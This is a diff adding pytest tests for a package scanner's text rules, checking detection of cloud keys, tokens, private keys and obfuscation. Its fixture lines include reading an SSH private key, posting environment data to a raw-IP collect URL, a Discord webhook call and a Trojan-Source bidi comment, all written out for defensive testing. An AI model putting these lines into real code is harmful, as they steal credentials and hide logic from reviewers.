@@ -1,0 +1,49 @@
+"""Text rules: each family found on the line it sits on, secrets masked, benign text quiet, no suppressions."""
+
+from pypi_platform.lib.scanner.text_rules import text_findings
+
+# Built from parts so that this file itself holds no complete secret.
+AWS_KEY = "AKIA" + "Z" * 16
+GITHUB_TOKEN = "ghp_" + "a1B2" * 9
+PRIVATE_KEY = "-----BEGIN " + "RSA PRIVATE KEY-----"
+
+
+def _found(text: str) -> list[tuple[str, int]]:
+    return sorted((finding.rule, finding.line) for finding in text_findings("pkg/x.py", text))
+
+
+def test_each_family_is_found_on_its_line():
+    text = "\n".join(
+        [
+            f"KEY = '{AWS_KEY}'",
+            f"TOKEN = '{GITHUB_TOKEN}'  # nosec",
+            f"PEM = '''{PRIVATE_KEY}'''",
+            "open(os.path.expanduser('~/.ssh/id_rsa')).read()",
+            "requests.post('http://203.0.113.7:8080/collect', data=env)",
+            "urlopen('https://discord.com/api/webhooks/1/abc')",
+            "access_level = 'user' # \u202e } \u2066if is_admin\u2069 \u2066 begin admins only",
+            "blob = '" + "QUJD" * 600 + "'",
+        ]
+    )
+    assert _found(text) == [
+        ("credentials.sensitive-path", 4),
+        ("network.paste-or-webhook-url", 6),
+        ("network.raw-ip-url", 5),
+        ("obfuscation.long-encoded-literal", 8),
+        ("secret.aws-access-key", 1),
+        ("secret.github-token", 2),  # the nosec comment changes nothing
+        ("secret.private-key", 3),
+        *[("text.bidi-or-invisible", 7)] * 4,
+    ]
+
+
+def test_secrets_are_masked_in_the_evidence():
+    (finding,) = text_findings("pkg/x.py", f"key = '{AWS_KEY}'\n")
+    assert AWS_KEY not in finding.evidence
+    assert finding.evidence.startswith(AWS_KEY[:8])
+    assert finding.path == "pkg/x.py" and finding.severity == "critical"
+
+
+def test_benign_code_and_a_leading_byte_order_mark_give_nothing():
+    text = "\ufeffimport os\n\ndef main():\n    return os.environ.get('HOME', '/tmp')\n# see https://example.org/docs\n"
+    assert _found(text) == []
